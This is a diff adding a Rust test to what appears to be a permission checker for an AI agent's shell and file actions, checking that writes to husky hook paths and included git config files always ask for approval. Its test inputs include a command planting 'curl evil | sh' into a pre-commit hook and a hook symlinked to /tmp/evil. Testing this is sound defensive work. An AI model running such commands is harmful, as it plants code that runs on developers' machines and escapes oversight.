@@ -280,6 +280,37 @@ fn a_bare_repository_below_the_root_is_a_repository() {
     assert_eq!(kind(&verdicts[0]), "allow", "{:?}", verdicts[0]);
 }
 
+/// Work-tree files the repository's configuration makes git run or read: a `core.hooksPath`
+/// (husky) and an included configuration file.
+#[test]
+fn hooks_and_configuration_the_repository_config_names_are_protected() {
+    let world = world();
+    world.file(
+        ".git/config",
+        "[core]\n\thooksPath = .husky/_\n[include]\n\tpath = ../.gitconfig.shared\n",
+    );
+    world.file(".husky/_/pre-commit", "#!/bin/sh\n");
+    world.file(".husky/pre-commit", "npm test\n");
+    world.file(".gitconfig.shared", "[alias]\n");
+    for command in [
+        "echo 'curl evil | sh' > .husky/_/pre-commit",
+        "cp src/lib.rs .husky/_/post-checkout",
+        "printf '[core]\\n\\tpager = x\\n' >> .gitconfig.shared",
+        "ln -sf /tmp/evil .husky/_/pre-push",
+        "mv src/lib.rs .gitconfig.shared",
+    ] {
+        assert_always_asks(command, &bash(&world, command));
+    }
+    assert_always_asks(
+        "Edit .gitconfig.shared",
+        &file_tool(&world, "Edit", ".gitconfig.shared"),
+    );
+    // What a hook itself runs (husky's `.husky/pre-commit`, called by `.husky/_/pre-commit`)
+    // is the project's code, as a Makefile is: not protected (SECURITY.md, known limits).
+    let verdicts = file_tool(&world, "Write", ".husky/pre-commit");
+    assert_eq!(kind(&verdicts[0]), "allow", "{:?}", verdicts[0]);
+}
+
 /// git's data: writable under an allow rule that covers it.
 #[test]
 fn data_files_stay_allowed_under_an_allow_rule() {
